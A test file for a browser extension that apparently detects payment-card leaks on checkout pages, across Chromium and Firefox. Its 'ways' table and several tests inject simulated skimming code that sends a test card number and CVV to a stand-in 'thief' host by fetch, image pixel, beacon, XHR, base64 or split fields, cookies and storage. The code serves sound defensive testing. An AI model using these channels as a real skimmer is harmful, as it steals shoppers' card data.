/** Watching a payment: what leaks is found and shown masked, what does not is not, and what was granted is given back. */
import type { Page } from 'puppeteer-core'
import { afterEach, expect, test } from 'vitest'
import { checkouts } from '../../demo/checkouts.ts'
import { otherProcessor, standIn } from '../../demo/hosts.ts'
import type { Popup } from '../../runner/session.ts'
import { sleep } from '../../runner/until-quiet.ts'
import type { CardDataLeak } from '../../src/engine/audit/card-data-leak.ts'
import type { Audit } from '../../src/engine/audit/types.ts'
import { csvOf } from '../../src/engine/export/csv.ts'
import { safeJson } from '../../src/engine/export/json.ts'
import { markdownOf } from '../../src/engine/export/markdown.ts'
import { chromiumOnly, kind, useBrowser } from './harness.ts'

const browser = useBrowser()
afterEach(async () => {
  await browser.session.closePanel()
  await browser.tidy()
  await expect.poll(granted).toEqual([])
})

const url = checkouts.find(({ slug }) => slug === 'campos-seguros')!.url
const shop = new URL(url)
const asked = kind === 'firefox' ? ['https://*/*', 'http://*/*'] : [`https://*.${shop.hostname}/*`]
const inBackground = (expression: string) => browser.session.inBackground(expression)
const granted = () => inBackground('chrome.permissions.getAll().then(({ origins }) => origins.sort())')
const registered = () =>
  inBackground('chrome.scripting.getRegisteredContentScripts().then((all) => all.map(({ id }) => id).sort())')

/** Nobody answers the browser's question in a test: Firefox has a preference for that, and Chromium asks nothing once a site was granted. */
async function grant(): Promise<void> {
  if (kind === 'firefox') return void (await browser.firefox.prefer('extensions.webextOptionalPermissionPrompts', false))
  const settings = await browser.session.openTab()
  await settings.goto('chrome://extensions')
  for (const site of asked)
    await settings.evaluate(`chrome.developerPrivate.addHostPermission('${browser.chromium.extension.id}', '${site}')`)
  await settings.close()
  await inBackground(`chrome.permissions.remove({ origins: ${JSON.stringify(asked)} })`)
}

const card = '4509953566233704'
const part = '[data-part="card-watch"]'

async function open(page: Page): Promise<Popup> {
  await (await browser.click(page)).popup.close()
  const { popup } = await browser.clickOn(page)
  await popup.waitForSelector(`${part} summary`)
  return popup
}

/** Begins to watch, and loads the page again, as a tester is told to. */
async function watch(page: Page): Promise<void> {
  await begin(page)
  await page.reload()
}

async function begin(page: Page): Promise<void> {
  await grant()
  const popup = await open(page)
  await popup.click(`${part} summary`)
  await popup.click('[data-part="card-watch-start"]')
  await popup.waitForSelector('[data-part="card-watch-stop"]')
  await popup.close()
}

/** Ends it, and gives the audit with what came of it. */
async function finish(page: Page): Promise<Audit & { cardDataLeak: CardDataLeak }> {
  const { popup } = await browser.clickOn(page)
  await popup.waitForSelector('[data-part="card-watch-stop"]')
  await popup.click('[data-part="card-watch-stop"]')
  await popup.waitForSelector('[data-part="card-watch-start"]')
  await popup.close()
  const again = await browser.clickOn(page)
  await again.popup.close()
  if (!again.reply.ok) throw new Error(again.reply.problem)
  return again.reply.audit as Audit & { cardDataLeak: CardDataLeak }
}

const thief = `https://${otherProcessor}/collect`
const base64 = (text: string) => Buffer.from(text).toString('base64')
const fields = (values: Record<string, string>) =>
  `Object.entries(${JSON.stringify(values)}).reduce((form, [name, value]) => (form.append(name, value), form), new FormData())`
const post = (body: string) => `fetch('${thief}', { method: 'POST', mode: 'no-cors', body: ${body} }).then(() => 1, () => 1)`

/** Each way to leak, with the place and form in which it is found. A field's name tells them apart. */
const ways: Record<string, { does: string; found: string }> = {
  query: { does: `fetch('${thief}?q=${card}', { mode: 'no-cors' }).catch(() => 1)`, found: 'query plain q' },
  picture: {
    does: `new Promise((done) => { const pixel = new Image(); pixel.onload = pixel.onerror = () => done(1); pixel.src = '${thief}?pixel=${card}' })`,
    found: 'query plain pixel',
  },
  form: { does: post(`new URLSearchParams({ form: '${card}' })`), found: 'form plain form' },
  json: { does: post(`JSON.stringify({ json: '4509-9535-6623-3704' })`), found: 'json grouped json' },
  multipart: { does: post(fields({ part: card })), found: `${kind === 'firefox' ? 'form' : 'multipart'} plain part` },
  text: { does: post(`'pago con 4509 9535 6623 3704'`), found: 'text grouped ' },
  encoded: { does: post(`'encoded=%34509%39535%36623%33704'`), found: 'form encoded encoded' },
  base64: { does: post(`JSON.stringify({ packed: '${base64(card)}' })`), found: 'json base64 packed' },
  split: { does: post(`JSON.stringify({ one: '45099535', two: '66233704' })`), found: 'json split one + two' },
  beacon: { does: `navigator.sendBeacon('${thief}', JSON.stringify({ beacon: '${card}' }))`, found: 'json plain beacon' },
  xhr: {
    does: `new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.onloadend = () => done(1); xhr.open('POST', '${thief}'); xhr.send('xhr=${card}') })`,
    found: 'form plain xhr',
  },
  request: {
    does: `fetch(new Request('${thief}', { method: 'POST', mode: 'no-cors', body: 'asked=${card}' })).catch(() => 1)`,
    found: 'form plain asked',
  },
  bytes: { does: post(`new Blob(['{"blob":"${card}"}'])`), found: 'json plain blob' },
  cookie: { does: `document.cookie = 'biscuit=${card}'`, found: 'cookie plain biscuit' },
  storage: { does: `localStorage.setItem('kept', JSON.stringify({ pan: '${card}' }))`, found: 'local-storage plain kept.pan' },
  session: { does: `sessionStorage.setItem('visit', '${base64(card)}')`, found: 'session-storage base64 visit' },
  address: { does: `history.replaceState({}, '', '?shown=${card}')`, found: 'query plain shown' },
}

/** No more digits of the card than a mask shows. */
function expectMasked(text: string) {
  const runs = Array.from({ length: card.length - 6 }, (_, at) => card.slice(at, at + 7))
  expect(runs.filter((run) => text.includes(run))).toEqual([])
  expect(text).not.toContain(base64(card).slice(0, 16))
}

/** Everything that the extension keeps. */
const stored = () =>
  inBackground(`(async () => {
    const done = (request) => new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
    const database = await done(indexedDB.open('semaforo'))
    const all = await Promise.all([...database.objectStoreNames].map((name) => done(database.transaction(name).objectStore(name).getAll())))
    database.close()
    return JSON.stringify([all, await chrome.storage.local.get(), await chrome.storage.session.get()])
  })()`) as Promise<string>

test('each way to leak is found, and no digit of the card is kept or shown but the ends', async () => {
  const page = await browser.visit(url)
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await watch(page)
  for (const { does } of Object.values(ways)) await page.evaluate(does)
  await sleep(500)
  await page.evaluate(`document.cookie = 'biscuit=${card}'`)
  const during = await stored()
  const audit = await finish(page)
  const leak = audit.cardDataLeak
  await page.evaluate(`document.cookie = 'biscuit=; max-age=0'; localStorage.clear(); sessionStorage.clear()`)
  const found = leak.findings.map(({ place, form, field }) => `${place === 'page-address' ? 'query' : place} ${form} ${field}`)
  expect([...new Set(found)].sort()).toEqual(
    expect.arrayContaining(
      Object.values(ways)
        .map(({ found }) => found)
        .sort(),
    ),
  )
  expect(leak).toMatchObject({ outcome: 'failed', reason: 'leaked', browser: kind })
  expect(new Set(leak.findings.map(({ host }) => host))).toEqual(new Set([otherProcessor, shop.hostname]))
  expect(new Set(leak.findings.map(({ masked, length }) => `${masked} ${length}`))).toEqual(new Set(['450995…3704 16']))

  const report = await browser.session.openOwnPage(`src/report/index.html?journey=${await journeyOf()}`)
  await report.waitForSelector('[data-part="card-data-leak"] [data-place="json"]')
  const shown = (await report.evaluate('document.documentElement.outerHTML')) as string
  await report.close()
  const { cardDataLeak: _, ...others } = audit
  // Markdown, CSV and JSON as they are saved; the page's own words in them are not the card's.
  for (const text of [during, await stored(), shown, markdownOf(audit, 'es'), csvOf(audit, 'es'), safeJson(audit), said.join()])
    expectMasked(text)
  expect(safeJson(others)).not.toContain('450995')

  // The verdict does not count it, so that it is told right below.
  const { popup } = await browser.clickOn(page)
  await popup.waitForSelector('[data-part="leaked"] button')
  await popup.click('[data-part="leaked"] button')
  await popup.waitForSelector(`${part} details[open]`)
})

const journeyOf = () =>
  inBackground(
    `chrome.storage.session.get().then((all) => Object.entries(all).find(([key]) => key.startsWith('tab:'))[1].journey)`,
  )

test('a security code beside the number is found, and none of its digits is told', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(post(`JSON.stringify({ card: { number: '${card}', cvv: '987' } })`))
  const { cardDataLeak: leak } = await finish(page)
  expect(leak.findings).toContainEqual({
    kind: 'code',
    host: otherProcessor,
    place: 'json',
    form: 'plain',
    field: 'card.cvv',
    length: 3,
    masked: '•••',
  })
  expect(JSON.stringify(leak)).not.toContain('987')
})

const tokens = `https://${standIn.payment}/v1/card_tokens`
const tokenise = `fetch('${tokens}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ card_number: '${card}', security_code: '123' }) }).then(() => 1, () => 1)`

test('a payment whose card goes to Mercado Pago only is right, and says in how many requests', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(tokenise)
  await page.evaluate(
    post(
      `JSON.stringify({ token: 'ff8080814c11e237014c1ff593b57b4d', order: '4539148803436467', phone: '+54 9 11 4444-5555', dni: '12345678' })`,
    ),
  )
  const { cardDataLeak: leak } = await finish(page)
  expect(leak).toMatchObject({ outcome: 'passed', reason: 'nothing-seen', findings: [] })
  expect(leak.watched.requests).toBeGreaterThan(0)
  expect(leak.watched.bodies).toBeGreaterThan(0)
  expect(leak.watched.toMercadoPago).toBeGreaterThan(0)
})

chromiumOnly('Firefox shows what scripts send, whenever they began')(
  'a page that is not loaded again may have kept its own ways to send: nothing is claimed',
  async () => {
    const page = await browser.visit(url)
    await begin(page)
    await page.evaluate('history.pushState(null, "", "?step=2")')
    await page.evaluate(tokenise)
    await page.evaluate(post(`'order=1'`))
    expect((await finish(page)).cardDataLeak).toMatchObject({
      outcome: 'cantTell',
      reason: 'not-all-seen',
      notWatched: expect.arrayContaining(['early-scripts']),
    })
  },
)

test('where no card was seen at all nothing is claimed', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(post(`'order=1'`))
  expect((await finish(page)).cardDataLeak).toMatchObject({ outcome: 'cantTell', reason: 'no-card-seen' })
})

test('a form that leaves the page: Firefox shows what it sends, Chromium says that it was not seen', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(tokenise)
  const gone = page.waitForNavigation()
  await page.evaluate(`{
    const form = document.body.appendChild(document.createElement('form'))
    form.method = 'post'
    form.action = location.pathname
    const field = form.appendChild(document.createElement('input'))
    field.name = 'typed'
    field.value = '${card}'
    form.submit()
  }`)
  await gone
  const { cardDataLeak: leak } = await finish(page)
  if (kind === 'firefox') expect(leak.findings).toMatchObject([{ place: 'form', field: 'typed', host: shop.hostname }])
  else
    expect(leak).toMatchObject({
      reason: 'not-all-seen',
      outcome: 'cantTell',
      findings: [],
      notWatched: expect.arrayContaining(['form-bodies']),
    })
})

test('off: nothing is granted, registered or changed, before and after', async () => {
  const page = await browser.visit(url)
  expect([await granted(), await registered()]).toEqual([[], []])
  await watch(page)
  expect(await granted()).toEqual([...asked].sort())
  expect(await registered()).toEqual(kind === 'chromium' ? ['card-watch', 'card-watch-hooks'] : [])
  await finish(page)
  expect([await granted(), await registered()]).toEqual([[], []])
  expect(await inBackground('chrome.permissions.contains({ permissions: ["webRequest"] }).catch(() => false)')).toBe(false)
  expect(await page.evaluate('Symbol.for("semaforo card watch") in document')).toBe(false)
  await page.evaluate(post(`'late=${card}'`))
  await page.reload()
  expect(await stored()).not.toContain('"late"')
})

test('another tab of the same shop is not watched', async () => {
  const page = await browser.visit(url)
  await watch(page)
  const other = await browser.visit(url)
  await other.evaluate(post(`'elsewhere=${card}'`))
  await sleep(500)
  await other.close()
  expect((await finish(page)).cardDataLeak.findings).toEqual([])
})

test('a background that is stopped meanwhile goes on where it was', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await browser.session.stopBackground()
  await page.reload()
  await sleep(1000)
  await page.evaluate(post(`'awake=${card}'`))
  await sleep(500)
  expect((await finish(page)).cardDataLeak.findings).toMatchObject([{ field: 'awake', place: 'form' }])
})

test('it ends with the tab, and what was seen is kept', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(post(`'closed=${card}'`))
  await sleep(500)
  await page.close()
  await expect.poll(granted).toEqual([])
  await expect.poll(stored).toContain('"field":"closed"')
})

chromiumOnly('its API cannot be replaced')('a refusal watches nothing, and says so', async () => {
  const popup = await open(await browser.visit(url))
  await popup.evaluate('chrome.permissions.request = async () => false')
  await popup.click(`${part} summary`)
  await popup.click('[data-part="card-watch-start"]')
  await popup.waitForFunction(`document.querySelector('${part} [role=status]').innerText !== ''`)
  expect(await popup.$$eval('[data-part="card-watch-stop"]', ({ length }) => length)).toBe(0)
})
